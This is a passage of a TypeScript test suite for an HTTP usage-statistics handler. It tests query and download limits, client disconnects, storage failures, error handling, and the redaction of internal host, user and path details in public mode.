    expect(codes.filter((code) => code === '503 QUERY_SLOW')).toHaveLength(26);
    expect(codes.filter((code) => code === '503 QUERY_BUSY')).toHaveLength(34);
    expect(responses.find((answer) => jsonOf(answer).code === 'QUERY_BUSY')!.headers['retry-after']).toBe(
      '5',
    );
    expect(performance.now() - began).toBeLessThan(10_000);
    expect((await request('/')).body.toString()).toBe('app');
    // The database still works on them, so no other query starts before they have ended.
    expect(codeOf(await request('/usage/api/v1/totals'))).toEqual([503, 'QUERY_SLOW']);
    expect(maxRunning).toBe(2);
    for (const free of release.splice(0)) free();
    const late = request('/usage/api/v1/totals');
    await vi.waitFor(() => expect(release).toHaveLength(1));
    release[0]!();
    expect(codeOf(await late)).toEqual([503, 'STORAGE_SILENT']);
  });

  test('that responds accepts further queries', async () => {
    const { request } = await start({ public: true, maxQueries: 1 });
    const responses = await Promise.all(Array.from({ length: 10 }, () => request('/usage/api/v1/totals')));
    expect(responses.map(({ status }) => status)).toEqual(Array(10).fill(200));
  });
});

describe('downloads', () => {
  const row = { key: 'x'.repeat(4_000), hits: 1, transfer: 0, errors: 0, duration: 0, previous: null };
  function endlessSource(given: { rows?: number; fails?: number } = {}): HandlerSource & { calls: number } {
    const source = Object.assign(emptySource(), { calls: 0 });
    const top = async (_summary: unknown, { page = 1 }: { page?: number } = {}) => {
      source.calls += 1;
      if (page === given.fails) throw new Error('secret');
      return { rows: Array(50_000).fill(row), timeZone: 'UTC' };
    };
    source.query = { ...source.query, top } as unknown as Queries;
    return source;
  }

  test('time out if the client does not read, and are limited in number', async () => {
    const source = endlessSource();
    const { port, request } = await start({ public: true, maxDownloads: 2, timeout: 500 }, source);
    const sockets = [];
    for (let i = 0; i < 2; i++) {
      const socket = await connect({ host: HOST, port, secure: false });
      socket.pause();
      socket.write('GET /usage/api/v1/summaries/urls?format=csv HTTP/1.1\r\nHost: localhost\r\n\r\n');
      sockets.push(socket);
    }
    await vi.waitFor(() => expect(source.calls).toBe(2));
    expect(codeOf(await request('/usage/api/v1/summaries/urls?format=csv'))).toEqual([503, 'DOWNLOADS_FULL']);
    await vi.waitFor(async () => {
      const answer = await request('/usage/api/v1/summaries/urls?format=csv', { method: 'HEAD' });
      expect(answer.status).toBe(200);
    }, 10_000);
    expect(source.calls).toBeLessThan(10);
    for (const socket of sockets) socket.destroy();
  });

  test('stop querying if the client disconnects', async () => {
    const source = endlessSource();
    const { port, request } = await start({ public: true }, source);
    for (let i = 0; i < 10; i++) {
      const socket = await connect({ host: HOST, port, secure: false });
      socket.write('GET /usage/api/v1/summaries/urls?format=ndjson HTTP/1.1\r\nHost: localhost\r\n\r\n');
      await once(socket, 'data');
      socket.resetAndDestroy();
    }
    await pause(200);
    const { calls } = source;
    await pause(200);
    expect(source.calls).toBe(calls);
    expect((await request('/')).body.toString()).toBe('app');
  });

  test('are aborted if the storage fails midway', async () => {
    const { request } = await start({ public: true }, endlessSource({ fails: 2 }));
    await expect(request('/usage/api/v1/summaries/urls?format=csv')).rejects.toThrow(
      /aborted|hang up|reset/i,
    );
  });
});

describe('public access', () => {
  const failingStatus = () =>
    statusOf({
      storages: [
        {
          storage: 'postgres://db.internal/app',
          ok: false,
          committed: 1,
          adopted: 0,
          rejected: 0,
          lost: 0,
          pruned: 0,
          pruneError: null,
          budgets: { keys: [], texts: 0 },
          hooks: { pending: 0, dropped: 0, failed: 0 },
          lag: { records: 0, seconds: 0 },
          error: { code: null, message: 'password authentication failed for user "root"' },
        },
      ],
      lastError: { date: 1, code: 'STORAGE_FAILED', message: 'cannot write to db.internal' },
    });
  const SECRETS = /db\.internal|root|password|\/srv/;

  test('reveals no host, user or file of the server', async () => {
    const { request, port } = await start({ public: true }, { ...emptySource(), status: failingStatus });
    for (const path of ['site', 'status']) {
      const answer = await request(`/usage/api/v1/${path}`);
      expect(answer.body.toString()).not.toMatch(SECRETS);
      expect(jsonOf(answer).status).toMatchObject({
        storages: [{ storage: 'postgres', error: { code: null, message: 'unknown' } }],
        lastError: {
          date: '1970-01-01T00:00:00.001+00:00',
          code: 'STORAGE_FAILED',
          message: 'STORAGE_FAILED',
        },
      });
    }
    const socket = await connect({ host: HOST, port, secure: false });
    socket.write('GET /usage/api/v1/live HTTP/1.1\r\nHost: localhost\r\n\r\n');
    let received = '';
    socket.on('data', (piece) => {
      received += piece;
    });
    await vi.waitFor(() => expect(received).toContain('event: usage'), 5_000);
    expect(received).not.toMatch(SECRETS);
    socket.destroy();
  });

  test('is restricted, while authorized clients see everything except file paths', async () => {
    const { request } = await start({ token: TOKEN }, { ...emptySource(), status: failingStatus });
    const text = (await request('/usage/api/v1/status', { headers: bearer() })).body.toString();
    expect(text).toContain('db.internal');
    expect(text).not.toContain('/srv');
  });

  test('excludes metrics and other sites of the storage', async () => {
    const source = { ...emptySource(), metrics: () => 'storage="postgres://db.internal"' };
    const { request } = await start({ public: true }, source);
    expect(codeOf(await request('/usage/metrics'))).toEqual([403, 'METRICS_PRIVATE']);
    expect(codeOf(await request('/usage/api/v1/verify'))).toEqual([403, 'VERIFY_PRIVATE']);
    for (const path of ['site', 'totals', 'series', 'summaries/urls', 'records', 'records?format=csv']) {
      const and = path.includes('?') ? '&' : '?';
      expect(codeOf(await request(`/usage/api/v1/${path}${and}site=other`))).toEqual([403, 'SITE_REFUSED']);
      expect((await request(`/usage/api/v1/${path}${and}site=shop`)).status).toBe(200);
    }
    const guarded = await start({ token: TOKEN }, source);
    expect((await guarded.request('/usage/metrics', { headers: bearer() })).body.toString()).toContain(
      'db.internal',
    );
  });
});

describe('an error in the handler', () => {
  test('responds with a problem and never reaches the app', async () => {
    const source = {
      ...emptySource(),
      status: () => {
        throw new Error('secret of status');
      },
    };
    const { request } = await start({ public: true }, source);
    const answer = await request('/usage/api/v1/status');
    expect(answer.status).toBe(503);
    expect(answer.body.toString()).not.toContain('secret');
    const metrics = {
      ...emptySource(),
      metrics: () => {
        throw new Error('secret of metrics');
      },
    };
    const other = await start({ token: TOKEN }, metrics);
    const failed = await other.request('/usage/metrics', { headers: bearer() });
    expect(codeOf(failed)).toEqual([500, 'HANDLER_FAILED']);
    expect(failed.body.toString()).not.toContain('secret');
    expect((await request('/')).body.toString()).toBe('app');
  });

  test('does not affect a response that the app has started', async () => {
    const { handler } = await start({ token: TOKEN });
    const server = http.createServer((request, response) => {
      response.writeHead(200).write('begun');
      handler(request, response);
    });
    await whenListening(server.listen(0, HOST));
    cleanups.push(() => server.close());
    const { port } = server.address() as AddressInfo;
    await exchange({ host: HOST, port, secure: false }, 'GET /usage/api/v1/site HTTP/1.0\r\n\r\n');
  });
});
